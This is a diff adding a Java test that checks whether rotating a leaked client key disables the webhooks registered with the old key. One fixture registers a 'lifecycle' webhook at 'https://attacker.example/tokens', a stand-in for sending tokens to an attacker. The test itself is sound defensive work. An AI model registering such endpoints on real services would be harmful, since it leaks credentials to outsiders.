@@ -55,6 +55,55 @@ class ClientKeyTest {
     }
 
     @Test
+    void rotatingAClientKeyDisablesTheLifecycleEndpointsTheOldKeyMayHaveRegisteredUntilTheNewKeyEnablesThem() {
+        try (TestServer server = TestServer.start()) {
+            JsonNode integration = server.createIntegration("leaked", List.of("*"), List.of(), List.of("*"));
+            String id = integration.get("id").asText();
+            Api oldKey = server.api(integration.get("clientKey").asText());
+            String lifecycle = oldKey.post(
+                            "/api/v1/webhooks", Map.of("url", "https://attacker.example/tokens", "kind", "lifecycle"))
+                    .expect(201)
+                    .json()
+                    .get("id")
+                    .asText();
+            String events = oldKey.post("/api/v1/webhooks", Map.of("url", "https://partner.example/events"))
+                    .expect(201)
+                    .json()
+                    .get("id")
+                    .asText();
+
+            JsonNode rotated = server.admin
+                    .post("/api/v1/integrations/" + id + "/rotate-client-key", "")
+                    .expect(200)
+                    .json();
+            assertThat(rotated.get("disabledEndpoints"))
+                    .extracting(JsonNode::asText)
+                    .containsExactly(lifecycle);
+
+            Api newKey = server.api(rotated.get("clientKey").asText());
+            JsonNode shown =
+                    newKey.get("/api/v1/webhooks/" + lifecycle).expect(200).json();
+            assertThat(shown.get("state").asText()).isEqualTo("disabled");
+            assertThat(newKey.get("/api/v1/webhooks/" + events)
+                            .expect(200)
+                            .json()
+                            .get("state")
+                            .asText())
+                    .isEqualTo("enabled");
+            // The partner re-enables its own endpoint with the new key (or deletes one it does not know).
+            newKey.patch("/api/v1/webhooks/" + lifecycle, Map.of("state", "enabled"))
+                    .expect(200);
+            assertThat(server.admin
+                            .post("/api/v1/integrations/" + id + "/rotate-client-key", "")
+                            .expect(200)
+                            .json()
+                            .get("disabledEndpoints"))
+                    .extracting(JsonNode::asText)
+                    .containsExactly(lifecycle);
+        }
+    }
+
+    @Test
     void onlyTheAdminKeyRotatesClientKeysAndAnUnknownIntegrationIs404() {
         try (TestServer server = TestServer.start()) {
             JsonNode integration = server.createIntegration("self", List.of("*"), List.of(), List.of("*"));
